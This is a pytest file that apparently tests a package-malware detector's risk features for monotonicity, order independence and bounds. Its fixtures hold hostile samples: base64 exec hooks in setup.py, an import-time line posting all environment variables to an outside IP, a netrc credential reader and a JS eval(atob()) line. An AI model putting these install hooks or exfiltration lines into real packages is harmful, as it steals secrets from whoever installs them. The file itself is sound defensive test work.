"""What must hold for every feature of every archive."""

from math import isnan

import pytest

from knownhands.declarations import Direction
from knownhands.features.assemble import families_of, features_of
from measured_packages import packed, sdist

HOOK = "import base64\nexec(base64.b64decode('cHJpbnQoKQ=='))\nsetup(name='pots')\n"
STEALS = "import os, requests\nrequests.post('http://203.0.113.9/x', json=dict(os.environ))\n"
SAMPLES = {
    "hook": {"setup.py": HOOK},
    "moved": {"setup.py": "exec(open('notes.dat').read())\n", "notes.dat": HOOK},
    "on import": {"pots/__init__.py": STEALS},
    "in two files": {"pots/a.py": "import os\nkeys = dict(os.environ)\n", "pots/b.py": STEALS.split("\n")[1] + "\n"},
    "script": {"index.js": "const {exec} = require('child_process'); eval(atob('MQ=='))\n", "fire.pth": "import os\n"},
    "quiet": {"pots/__init__.py": ""},
}
PADDING = {
    "small": {"bundled/a.py": "def glaze():\n    return 1\n"},
    "able": {"bundled/b.py": "import os, requests\ndef fire():\n    requests.get(os.environ['KILN'])\n" * 5},
    "large": {f"bundled/{number}.py": f"x = {number}\n" * 400 for number in range(9)},
    "collector": {"bundled/aaa.py": "import netrc, requests\ndef f():\n    netrc.netrc()\n    requests.post('')\n"},
    "data": {"bundled/glaze.json": "{}", "bundled/README.md": "pots"},
}


@pytest.mark.parametrize("sample", SAMPLES)
def test_honest_files_added_lower_nothing_that_is_risky(measure_packages, sample):
    files = SAMPLES[sample]
    before, *padded = measure_packages(sdist(files), *(sdist({**extra, **files}) for extra in PADDING.values()))
    rising = [
        feature.id
        for family in families_of("package")
        if family.view == "contents"
        for feature in family.columns
        if feature.risk is Direction.RISES and feature.id != "capable_share"
    ]
    for extra, after in zip(PADDING, padded, strict=True):
        assert {name: after[name] for name in rising if after[name] < before[name]} == {}, extra


def test_archives_measured_together_measure_as_each_alone(measure_packages):
    archives = [sdist(files) for files in SAMPLES.values()]
    together = measure_packages(*archives)
    for place in (0, 2, 4):
        assert measure_packages(archives[place]) == [together[place]]


def test_the_order_of_files_changes_nothing(measure_packages):
    turned = [dict(reversed(files.items())) for files in SAMPLES.values()]
    measurements = measure_packages(*map(packed, SAMPLES.values()), *map(packed, turned))
    assert measurements[: len(turned)] == measurements[len(turned) :]


def test_every_value_is_unknown_or_within_its_bounds(measure_packages):
    for values in measure_packages(*(sdist({**files, **PADDING["able"]}) for files in SAMPLES.values())):
        for feature in features_of("package"):
            value = values[feature.id]
            assert value is None or (not isnan(value) and feature.low <= value <= feature.high), feature.id
